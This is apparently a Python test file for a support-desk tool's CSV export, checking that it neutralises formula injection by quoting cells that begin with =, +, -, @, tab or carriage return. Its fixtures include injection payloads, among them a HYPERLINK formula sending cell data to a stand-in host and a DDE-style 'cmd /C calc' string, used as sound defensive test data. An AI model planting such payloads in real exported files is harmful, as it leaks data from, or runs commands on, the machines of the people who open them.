"""The ``csv`` output in a spreadsheet: a text cell that a spreadsheet would take for a formula
(it starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return) is written after a
single quote, numbers are written as they are, ``json`` keeps every value, and csflow reads
its own CSV back to the values written."""

from __future__ import annotations

import contextlib
import csv
import io
import json
import pathlib
import re
from datetime import UTC, date, datetime, timedelta
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from csflow import AgentProfile, Customer, Desk, Ticket, Tier
from csflow.cli import main
from csflow.cli.documents import load_document
from csflow.cli.forecast import read_forecast
from csflow.cli.output import Table, csv_text, render
from csflow.desk.commands import AddAgent, Command, Submit
from csflow.errors import ConfigError

_ROOT = pathlib.Path(__file__).resolve().parent.parent
_CONFIG = _ROOT / "examples" / "configs" / "marketplace-day.yaml"
T0 = datetime(2026, 3, 9, 1, 0, tzinfo=UTC)

#: The reference, from the docs: a text starting with one of these is a formula to a
#: spreadsheet, unless the whole text is a number (``-3``, ``-0.5``, ``+1e3``, ``-5%``).
_STARTS = ("=", "+", "-", "@", "\t", "\r")
_A_NUMBER = re.compile(r"[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?%?", re.ASCII)


def _expected_cell(value: Any) -> str:
    """What a reader gets from the cell of *value*, written from the docs."""
    if value is None:
        return ""
    if isinstance(value, bool):
        return "yes" if value else "no"
    text = str(value)
    if isinstance(value, int | float):
        return text
    if text.startswith("'") or (text.startswith(_STARTS) and not _A_NUMBER.fullmatch(text)):
        return "'" + text
    return text


def _read(out: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(out, newline="")))


def _run(*argv: str) -> tuple[int, str, str]:
    out, err = io.StringIO(), io.StringIO()
    with contextlib.redirect_stdout(out), contextlib.redirect_stderr(err):
        status = main(list(argv))
    return status, out.getvalue(), err.getvalue()


# Texts that start like formulas (and some that are numbers), among plain ones.
_heads = st.sampled_from(["=", "+", "-", "@", "\t", "\r", "'", "'=", "-3", "a", "", "1"])
_tails = st.text(st.sampled_from("abc=+-@'\t\r\n,\"1.5e%() "), max_size=6)
texts = st.builds(lambda h, t: h + t, _heads, _tails)
values = (
    texts
    | st.integers(-(10**6), 10**6)
    | st.floats(allow_nan=False, allow_infinity=False)
    | st.booleans()
    | st.none()
)


@settings(max_examples=150, deadline=None)
@given(
    header=texts,
    rows=st.lists(st.tuples(values, values, values), min_size=1, max_size=4),
)
def test_a_formula_text_is_quoted_numbers_are_not_and_the_reader_takes_the_quote_away(
    header: str, rows: list[tuple[Any, Any, Any]]
) -> None:
    table = Table("t", "T", ("id", header, "n"), tuple(rows))
    read = _read(render("csv", [table]))
    assert read == [[_expected_cell(v) for v in r] for r in (table.columns, *rows)]
    for line in read:
        for cell in line:
            # No cell reaches a spreadsheet as a formula.
            assert not cell.startswith(_STARTS) or _A_NUMBER.fullmatch(cell), cell
    # Every text back exactly; numbers as written.
    back = [[csv_text(c) for c in r] for r in read]
    shown = [["" if v is None else str(v) for v in r] for r in (table.columns, *rows)]
    for got, want, values in zip(back[1:], shown[1:], rows, strict=True):
        for g, w, v in zip(got, want, values, strict=True):
            assert g == (("yes" if v else "no") if isinstance(v, bool) else w)
    assert back[0] == shown[0]
    # JSON keeps the exact values.
    assert json.loads(render("json", [table]))["t"] == [
        dict(zip(table.columns, r, strict=True)) for r in rows
    ]


@given(text=st.text(max_size=8))
@settings(max_examples=100)
def test_every_text_reads_back_exactly(text: str) -> None:
    table = Table("t", "T", ("a",), ((text,),))
    assert csv_text(_read(render("csv", [table]))[1][0]) == text


def test_worked_examples() -> None:
    table = Table(
        "tickets",
        "Tickets",
        ("ticket_id", "customer", "n", "share"),
        (
            ('=HYPERLINK("http://x.example/?"&A1,"open")', "@SUM(A1:A9)", -3, -0.5),
            ("+62 812 555", "-cmd|' /C calc'!A0", 7, 0.25),
            ("-3", "-0.5", 0, -1e-05),
            ("\tT-1", "\rc", 1, 1.0),
            ("'quoted", "T-=1", 2, 2.5),
        ),
    )
    assert render("csv", [table]).split("\n") == [
        "ticket_id,customer,n,share",
        '"\'=HYPERLINK(""http://x.example/?""&A1,""open"")",\'@SUM(A1:A9),-3,-0.5',
        "'+62 812 555,'-cmd|' /C calc'!A0,7,0.25",
        "-3,-0.5,0,-1e-05",
        '"\'\tT-1","\'\rc","1","1.0"',  # a carriage return: every field quoted
        "''quoted,T-=1,2,2.5",
    ]
    # Several tables: each section's cells alike, the "# name" lines as they were.
    two = render("csv", [table, Table("n", "N", ("-n",), (("=1",),))]).split("\n")
    assert two[0] == "# tickets"
    assert two[-3:] == ["# n", "'-n", "'=1"]


def _replay_files(tmp: pathlib.Path, ticket: str, customer: str, agent: str) -> list[str]:
    desk = Desk(load_document(_CONFIG).configs()[0])
    snap = tmp / "snapshot.json"
    snap.write_text(json.dumps(desk.snapshot()), encoding="utf-8")
    commands: list[Command] = [
        AddAgent(AgentProfile(agent, capacity={"chat": 1}), "available", at=T0),
        Submit(Ticket(ticket, Customer(customer, Tier("gold", 1)), "chat", T0), at=T0),
        Submit(
            Ticket(ticket + "2", Customer("c", Tier("gold", 1)), "chat", T0),
            at=T0 + timedelta(seconds=1),
        ),
    ]
    journal = tmp / "journal.jsonl"
    journal.write_text("".join(json.dumps(c.to_dict()) + "\n" for c in commands), "utf-8")
    return ["replay", str(_CONFIG), "--snapshot", str(snap), "--journal", str(journal)]


def test_replay_csv_quotes_ids_from_a_helpdesk_and_json_keeps_them(
    tmp_path: pathlib.Path,
) -> None:
    ticket, customer, agent = '=HYPERLINK("http://x.example","T")', "+6281", "@agent"
    args = _replay_files(tmp_path, ticket, customer, agent)
    status, out, err = _run(*args, "--format", "csv")
    assert status == 0, err
    cells = [c for r in _read(out) for c in r]
    for value in (ticket, ticket + "2", agent):
        assert "'" + value in cells
        assert value not in cells
    assert not [c for c in cells if c.startswith(_STARTS) and not _A_NUMBER.fullmatch(c)]
    status, out, err = _run(*args, "--format", "json")
    assert status == 0, err
    doc = json.loads(out)
    assert {r["ticket_id"] for r in doc["tickets"]} == {ticket, ticket + "2"}
    assert [r["agent_id"] for r in doc["agents"]] == [agent]


def test_staff_roster_csv_quotes_a_shift_named_like_a_formula(tmp_path: pathlib.Path) -> None:
    config = tmp_path / "c.json"
    config.write_text(
        json.dumps(
            {
                "staffing": {
                    "aht": "5m",
                    "target": "20s",
                    "level": 0.8,
                    "interval": "1h",
                    "day": "2026-03-09",
                    "timezone": "UTC",
                    "shifts": [{"name": "=1+1", "length": "2h", "earliest": "00:00"}],
                }
            }
        ),
        "utf-8",
    )
    forecast = tmp_path / "f.csv"
    forecast.write_text("start,arrivals\n00:00,10\n01:00,20\n", "utf-8")
    status, out, err = _run(
        "staff", str(config), "--forecast", str(forecast), "--roster", "--format", "csv"
    )
    assert status == 0, err
    cells = [c for r in _read(out) for c in r]
    assert "'=1+1" in cells
    assert "=1+1" not in cells


def test_forecast_reads_back_a_cell_written_after_a_quote(tmp_path: pathlib.Path) -> None:
    # A forecast as csflow writes its cells (here with a note column a planner added): the
    # reader takes each quote away, so a bad value is named as the planner wrote it.
    table = Table(
        "forecast",
        "F",
        ("start", "arrivals", "duration", "note"),
        (
            ("2026-03-09T00:00:00+07:00", 4.5, "30m", "=rush"),
            ("2026-03-09T00:30:00+07:00", "-", "30m", "@lead"),
        ),
    )
    path = tmp_path / "f.csv"
    path.write_text(render("csv", [table]) + "\n", "utf-8")
    assert "'-" in path.read_text("utf-8")
    kwargs: dict[str, Any] = {"day": date(2026, 3, 9), "zone": None, "interval_flag": "x"}
    # The message names the value as written: '-', not "'-".
    with pytest.raises(ConfigError, match=r"expected a number, got '-'$"):
        read_forecast(path, "--forecast", timedelta(minutes=30), **kwargs)
    table = Table("forecast", "F", table.columns, table.rows[:1])
    path.write_text(render("csv", [table]) + "\n", "utf-8")
    rows, lines = read_forecast(path, "--forecast", timedelta(minutes=30), **kwargs)
    assert [(r.start.isoformat(), r.arrivals, r.duration) for r in rows] == [
        ("2026-03-09T00:00:00+07:00", 4.5, timedelta(minutes=30))
    ]
    assert lines == [2]


def test_forecast_output_reads_back_into_staff(tmp_path: pathlib.Path) -> None:
    arrivals = tmp_path / "a.csv"
    arrivals.write_text(
        "created_at\n2026-03-02T09:05:00+07:00\n2026-03-02T09:10:00+07:00\n", "utf-8"
    )
    status, out, err = _run(
        "forecast", str(arrivals), "--day", "2026-03-09", "--zone", "Asia/Jakarta",
        "--lookback", "1",
    )  # fmt: skip
    assert status == 0, err
    forecast = tmp_path / "f.csv"
    forecast.write_text(out + "\n", "utf-8")
    status, out, err = _run("staff", "--forecast", str(forecast), "--aht", "5m", "--format", "json")
    assert status == 0, err
    plan = json.loads(out)["plan"]
    assert len(plan) == 48
    assert [(r["from"], r["arrivals"]) for r in plan if r["arrivals"]] == [
        ("2026-03-09 09:00", 2.0)
    ]
